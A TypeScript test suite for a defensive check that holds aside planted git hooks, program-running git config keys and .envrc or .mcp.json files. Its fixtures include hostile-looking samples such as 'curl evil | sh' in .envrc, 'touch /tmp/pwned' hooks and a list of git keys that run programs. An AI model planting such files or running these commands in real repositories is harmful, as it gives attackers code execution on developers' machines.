// planted-files.ts on real directory trees and real git: what appears or changes between the
// snapshot and hold() is moved aside when it would run a program, and nothing else is touched.
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, renameSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { scratchDirectories } from '../test/support/scratch-directories.js';
import { CLOCK_SLACK_MS, heldFileMessage, HELD_SUFFIX, PlantedFilesCheck } from './planted-files.js';

const scratch = scratchDirectories('srt-gw-planted-');
const GIT_ENV = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: '/nonexistent', GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };

function git(cwd: string, ...args: string[]): void {
  execFileSync('git', args, { cwd, env: GIT_ENV, stdio: 'ignore' });
}

function write(path: string, text: string): void {
  mkdirSync(join(path, '..'), { recursive: true });
  writeFileSync(path, text);
}

/** Resolves once `condition` holds, polling (the clock has to move past a file's change time). */
async function until(condition: () => boolean): Promise<void> {
  while (!condition()) await new Promise((resolve) => setTimeout(resolve, 10));
}

/** The held files' paths, relative to `root`, sorted. */
function heldPaths(root: string, check: PlantedFilesCheck): string[] {
  return check
    .hold()
    .map((held) => held.path.slice(root.length + 1))
    .sort();
}

describe('repositories created during the run', () => {
  test('a new repository whose config names core.fsmonitor has its config held, with a line saying how to restore it', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', 'sub');
    const marker = join(root, 'pwned');
    git(join(root, 'sub'), 'config', 'core.fsmonitor', `touch ${marker}`);
    const held = check.hold();
    expect(held.map((entry) => heldFileMessage(entry, root))).toEqual([
      'srt-gw: held sub/.git/config: core.fsmonitor would run a program on your next git command; restore with: mv sub/.git/config.srt-gw-held sub/.git/config',
    ]);
    expect(existsSync(join(root, 'sub/.git/config'))).toBe(false);
    expect(readFileSync(join(root, `sub/.git/config${HELD_SUFFIX}`), 'utf8')).toContain('fsmonitor');
    // git in sub/ no longer runs it; reading the config to decide ran nothing either.
    git(join(root, 'sub'), 'status');
    expect(existsSync(marker)).toBe(false);
  });

  test('a plain new repository (git init, a clone) is left alone: sample hooks and ordinary config run nothing', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', 'plain');
    git(join(root, 'plain'), 'config', 'remote.origin.url', 'https://example.test/repo.git');
    git(join(root, 'plain'), 'config', 'alias.st', 'status');
    expect(check.hold()).toEqual([]);
  });

  test('a hook added to a new repository is held; its samples are not', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', 'sub');
    write(join(root, 'sub/.git/hooks/post-checkout'), '#!/bin/sh\ntouch /tmp/pwned\n');
    chmodSync(join(root, 'sub/.git/hooks/post-checkout'), 0o755);
    expect(heldPaths(root, check)).toEqual(['sub/.git/hooks/post-checkout']);
    expect(readdirSync(join(root, 'sub/.git/hooks')).filter((name) => !name.endsWith('.sample'))).toEqual([`post-checkout${HELD_SUFFIX}`]);
  });

  test('a repository below a bare git directory, a bare repository and a deep one are found', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', '--bare', 'bare.git');
    git(join(root, 'bare.git'), 'config', 'core.pager', 'touch /tmp/pwned');
    git(root, 'init', '-q', 'a/b/c/d/e');
    git(join(root, 'a/b/c/d/e'), 'config', 'core.sshCommand', 'touch /tmp/pwned');
    expect(heldPaths(root, check)).toEqual(['a/b/c/d/e/.git/config', 'bare.git/config']);
  });

  test('a commondir written into an existing repository is held: it would send git to another git directory', () => {
    const root = scratch();
    git(root, 'init', '-q', 'sub');
    const check = PlantedFilesCheck.start([root]);
    write(join(root, 'sub/.git/commondir'), '../../evil\n');
    expect(heldPaths(root, check)).toEqual(['sub/.git/commondir']);
  });

  test('a new .git file naming a git directory beyond the scan depth has that directory checked', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', 'a/b/c/d/e/f/g/h');
    git(join(root, 'a/b/c/d/e/f/g/h'), 'config', 'core.editor', 'touch /tmp/pwned');
    write(join(root, 'work/.git'), `gitdir: ${join(root, 'a/b/c/d/e/f/g/h/.git')}\n`);
    expect(heldPaths(root, check)).toEqual(['a/b/c/d/e/f/g/h/.git/config']);
  });

  test('node_modules and symlinked directories are not scanned', () => {
    const root = scratch();
    const outside = scratch();
    symlinkSync(outside, join(root, 'linked'));
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', 'node_modules/pkg');
    git(join(root, 'node_modules/pkg'), 'config', 'core.fsmonitor', 'x');
    git(outside, 'init', '-q', 'repo');
    git(join(outside, 'repo'), 'config', 'core.fsmonitor', 'x');
    expect(check.hold()).toEqual([]);
  });
});

describe('repositories that existed at start', () => {
  test('a program key added to a nested repository is held; one it already had is not', () => {
    const root = scratch();
    git(root, 'init', '-q', 'vendor/lib');
    git(join(root, 'vendor/lib'), 'config', 'core.hooksPath', '.husky/_');
    git(root, 'init', '-q', 'vendor/other');
    git(join(root, 'vendor/other'), 'config', 'core.hooksPath', '.husky/_');
    const check = PlantedFilesCheck.start([root]);
    git(join(root, 'vendor/lib'), 'config', 'filter.lfs.smudge', 'touch /tmp/pwned');
    // An ordinary change to a config that already named a program is no reason to hold it.
    git(join(root, 'vendor/other'), 'config', 'remote.origin.url', 'https://example.test/other.git');
    const held = check.hold();
    expect(held.map((entry) => [entry.path.slice(root.length + 1), entry.reason])).toEqual([
      ['vendor/lib/.git/config', 'filter.lfs.smudge would run a program on your next git command'],
    ]);
  });

  test('an unchanged tree holds nothing, even with program keys and hooks in it', () => {
    const root = scratch();
    git(root, 'init', '-q', 'sub');
    git(join(root, 'sub'), 'config', 'core.fsmonitor', 'touch /tmp/x');
    write(join(root, 'sub/.git/hooks/pre-commit'), '#!/bin/sh\n');
    write(join(root, 'sub/.envrc'), 'use nix\n');
    expect(PlantedFilesCheck.start([root]).hold()).toEqual([]);
  });

  test('hold() is idempotent', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    write(join(root, 'x/.envrc'), 'curl evil | sh\n');
    const first = check.hold();
    expect(first).toHaveLength(1);
    expect(check.hold()).toBe(first);
    expect(readdirSync(join(root, 'x'))).toEqual([`.envrc${HELD_SUFFIX}`]);
  });
});

describe('planted names anywhere below a writable root', () => {
  test.each(['.envrc', '.mcp.json', '.srt-gw.yaml', '.srt.json'])('%s created in a nested directory is held', (name) => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    write(join(root, 'pkg/deep', name), 'planted\n');
    const held = check.hold();
    expect(held.map((entry) => entry.path)).toEqual([join(root, 'pkg/deep', name)]);
    expect(held[0]!.reason).toMatch(/^created during the run; /);
    expect(existsSync(join(root, 'pkg/deep', `${name}${HELD_SUFFIX}`))).toBe(true);
  });

  test('an existing .envrc that changed is held; an unchanged one is not', () => {
    const root = scratch();
    write(join(root, 'a/.envrc'), 'export A=1\n');
    write(join(root, 'b/.envrc'), 'export B=1\n');
    const check = PlantedFilesCheck.start([root]);
    write(join(root, 'a/.envrc'), 'curl evil | sh\n');
    expect(check.hold().map((entry) => [entry.path.slice(root.length + 1), entry.reason.split(';')[0]])).toEqual([['a/.envrc', 'changed during the run']]);
  });

  test('empty files are left alone: they run nothing, and are what a mount point left by a concurrent run looks like', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    write(join(root, '.envrc'), '');
    write(join(root, 'sub/.mcp.json'), '');
    expect(check.hold()).toEqual([]);
  });

  test('a file moved into reach from beyond the scan keeps its age and is not taken for planted', async () => {
    const root = scratch();
    write(join(root, 'a/b/c/d/e/f/g/.envrc'), 'export OLD=1\n');
    const created = statSync(join(root, 'a/b/c/d/e/f/g/.envrc')).ctimeMs;
    await until(() => Date.now() > created + CLOCK_SLACK_MS * 2);
    const check = PlantedFilesCheck.start([root]);
    renameSync(join(root, 'a/b/c/d/e/f/g'), join(root, 'g'));
    // Control: a file created now in the same place is held.
    write(join(root, 'g/h/.envrc'), 'export NEW=1\n');
    expect(heldPaths(root, check)).toEqual(['g/h/.envrc']);
  });

  test('a held name that is taken gets a numbered name, and nothing is overwritten', () => {
    const root = scratch();
    write(join(root, `x/.envrc${HELD_SUFFIX}`), 'held before\n');
    const check = PlantedFilesCheck.start([root]);
    write(join(root, 'x/.envrc'), 'new\n');
    expect(check.hold().map((entry) => entry.heldAs)).toEqual([join(root, `x/.envrc${HELD_SUFFIX}-2`)]);
    expect(readFileSync(join(root, `x/.envrc${HELD_SUFFIX}`), 'utf8')).toBe('held before\n');
  });
});

describe('which git configuration is held', () => {
  const cases: { config: string; held: string | null }[] = [
    { config: '[core]\n\tfsmonitor = touch /tmp/x\n', held: 'core.fsmonitor' },
    { config: '[core]\n\tfsmonitor = true\n', held: null },
    { config: '[core]\n\thooksPath = .husky/_\n', held: 'core.hookspath' },
    { config: '[core]\n\tsshCommand = sh -c x\n', held: 'core.sshcommand' },
    { config: '[core]\n\tpager = sh -c x\n', held: 'core.pager' },
    { config: '[core]\n\teditor = sh -c x\n', held: 'core.editor' },
    { config: '[core]\n\taskPass = /x\n', held: 'core.askpass' },
    { config: '[sequence]\n\teditor = x\n', held: 'sequence.editor' },
    { config: '[diff "bin"]\n\ttextconv = x\n', held: 'diff.bin.textconv' },
    { config: '[diff "bin"]\n\tcommand = x\n', held: 'diff.bin.command' },
    { config: '[filter "f"]\n\tclean = x\n', held: 'filter.f.clean' },
    { config: '[filter "f"]\n\tsmudge = x\n', held: 'filter.f.smudge' },
    { config: '[filter "f"]\n\tprocess = x\n', held: 'filter.f.process' },
    { config: '[credential]\n\thelper = !x\n', held: 'credential.helper' },
    { config: '[include]\n\tpath = other\n', held: 'include.path' },
    { config: '[includeIf "gitdir:/"]\n\tpath = other\n', held: 'includeif.gitdir:/.path' },
    { config: '[alias]\n\tx = !sh -c x\n', held: 'alias.x' },
    { config: '[alias]\n\tst = status\n', held: null },
    { config: '[gpg]\n\tprogram = x\n', held: 'gpg.program' },
    { config: '[gpg "ssh"]\n\tprogram = x\n', held: 'gpg.ssh.program' },
    { config: '[uploadpack]\n\tpackObjectsHook = x\n', held: 'uploadpack.packobjectshook' },
    { config: '[merge "m"]\n\tdriver = x\n', held: 'merge.m.driver' },
    { config: '[http "https://example.test"]\n\tsslKey = pkcs11:x\n', held: 'http.https://example.test.sslkey' },
    { config: '[remote "o"]\n\tuploadpack = x\n', held: 'remote.o.uploadpack' },
    { config: '[pager]\n\tlog = x\n', held: 'pager.log' },
    { config: '[pager]\n\tlog = false\n', held: null },
    { config: '[protocol "ext"]\n\tallow = always\n', held: 'protocol.ext.allow' },
    { config: '[user]\n\tname = x\n[remote "o"]\n\turl = /x\n', held: null },
  ];

  test.each(cases)('$config → $held', ({ config, held }) => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', 'sub');
    writeFileSync(join(root, 'sub/.git/config'), `[core]\n\trepositoryformatversion = 0\n${config}`);
    const result = check.hold();
    if (held === null) expect(result).toEqual([]);
    else expect(result.map((entry) => entry.reason)).toEqual([`${held} would run a program on your next git command`]);
  });

  test('an include is not followed: only include.path itself is named', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', 'sub');
    write(join(root, 'sub/.git/other'), '[core]\n\tfsmonitor = x\n');
    writeFileSync(join(root, 'sub/.git/config'), '[include]\n\tpath = other\n');
    expect(check.hold().map((entry) => entry.reason)).toEqual(['include.path would run a program on your next git command']);
  });

  test('a config that is a symlink or not readable by git is held unread', () => {
    const root = scratch();
    const check = PlantedFilesCheck.start([root]);
    git(root, 'init', '-q', 'a');
    git(root, 'init', '-q', 'b');
    execFileSync('rm', [join(root, 'a/.git/config')]);
    symlinkSync('/etc/hostname', join(root, 'a/.git/config'));
    writeFileSync(join(root, 'b/.git/config'), '[core\n\tbroken');
    expect(check.hold().map((entry) => [entry.path.slice(root.length + 1), entry.reason])).toEqual([
      ['a/.git/config', 'git would read this as its configuration, and it is not a plain file'],
      ['b/.git/config', 'git configuration that could not be checked for programs git would run'],
    ]);
  });

  test('a path with spaces is quoted in the message', () => {
    const held = { path: '/p/my dir/.envrc', heldAs: `/p/my dir/.envrc${HELD_SUFFIX}`, reason: 'r' };
    expect(heldFileMessage(held, '/p')).toBe(`srt-gw: held 'my dir/.envrc': r; restore with: mv 'my dir/.envrc${HELD_SUFFIX}' 'my dir/.envrc'`);
  });
});
